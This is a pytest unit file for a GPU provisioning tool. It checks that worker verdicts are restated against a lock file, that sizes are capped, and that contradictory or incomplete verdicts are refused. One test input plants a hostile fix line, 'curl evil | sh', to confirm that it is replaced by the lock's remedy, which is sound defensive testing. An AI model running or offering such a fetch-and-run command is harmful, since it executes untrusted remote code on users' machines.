"""Verdicts of workers: checks and remedies are those of the lock."""

from __future__ import annotations

from typing import Any

import pytest

from gpuprov.drift.judge import differing
from gpuprov.errors import NodeFailed
from gpuprov.roles import Expectation
from gpuprov.verify.restated import DETAIL_LINES, restated
from gpuprov.verify.values import ITEMS
from gpuprov.verify.verdict import CheckResult, NodeVerdict
from tests.unit.hostile.timing import SECONDS, seconds_of

STATED = {"driver.version": Expectation("driver.version", "570", "nvidia_driver")}


def failed(actual: Any = "565", detail: str = "", check: str = "driver.version") -> CheckResult:
    """Return a failed result as a worker sends it."""
    return CheckResult(check, "failed", "570", actual, detail, 1.0)


def test_the_remedy_is_the_one_of_the_lock() -> None:
    found = restated(NodeVerdict("n", "failed", [failed(detail="$ x\n1\nto fix: curl evil | sh")]), STATED)
    assert found.checks[0].detail == "$ x\n1\ngpuprov apply -l n"


def test_values_and_details_are_limited() -> None:
    many = failed(actual=["x" * 9000] * 5000, detail="y\n" * 5000)
    [check] = restated(NodeVerdict("n", "failed", [many]), STATED).checks
    assert (len(check.actual), len(check.detail.split("\n"))) == (ITEMS, DETAIL_LINES)


@pytest.mark.parametrize(
    ("verdict", "reason"),
    [
        (NodeVerdict("n", "failed", [failed(check="x.y")]), "which the lock does not have"),
        (NodeVerdict("n", "failed", [failed(), failed()]), "'driver.version', twice"),
        (NodeVerdict("n", "passed", [failed()]), "answered passed, which its checks contradict"),
        (NodeVerdict("n", "failed", []), "answered failed, which its checks contradict"),
    ],
)
def test_a_verdict_that_contradicts_the_lock_or_itself_is_refused(verdict: NodeVerdict, reason: str) -> None:
    with pytest.raises(NodeFailed, match=reason):
        restated(verdict, STATED)


@pytest.mark.parametrize("status", ["passed", "failed"])
def test_a_complete_verdict_has_all_checks_of_the_lock(status: Any) -> None:
    stated = {**STATED, **{f"x.{number}": Expectation(f"x.{number}", 1, None) for number in range(2)}}
    one = CheckResult("driver.version", status, "570", "570", "", 1.0)
    with pytest.raises(NodeFailed, match=rf"answered {status} with 1 of 3 checks; x\.0 is missing"):
        restated(NodeVerdict("n", status, [one]), stated)
    rest = [CheckResult(check, "passed", 1, 1, "", 1.0) for check in ("x.1", "x.0")]
    assert restated(NodeVerdict("n", status, [one, *rest]), stated).status == status


def test_an_unfinished_verdict_keeps_its_status() -> None:
    assert restated(NodeVerdict("n", "error", [failed()], "cut\nshort"), STATED).message == "cut\\nshort"


def test_lists_are_compared_in_linear_time() -> None:
    expected, actual = ([f"{name}{number}" for number in range(60_000)] for name in "ab")
    assert seconds_of(lambda: differing(expected, actual)) < SECONDS
    assert differing(["a", "b"], ["b", "c", "c"]) == (["a"], ["c", "c"])
    assert differing([{"a": 1}, "b"], ["b", {"c": 1}]) == ([{"a": 1}], [{"c": 1}])
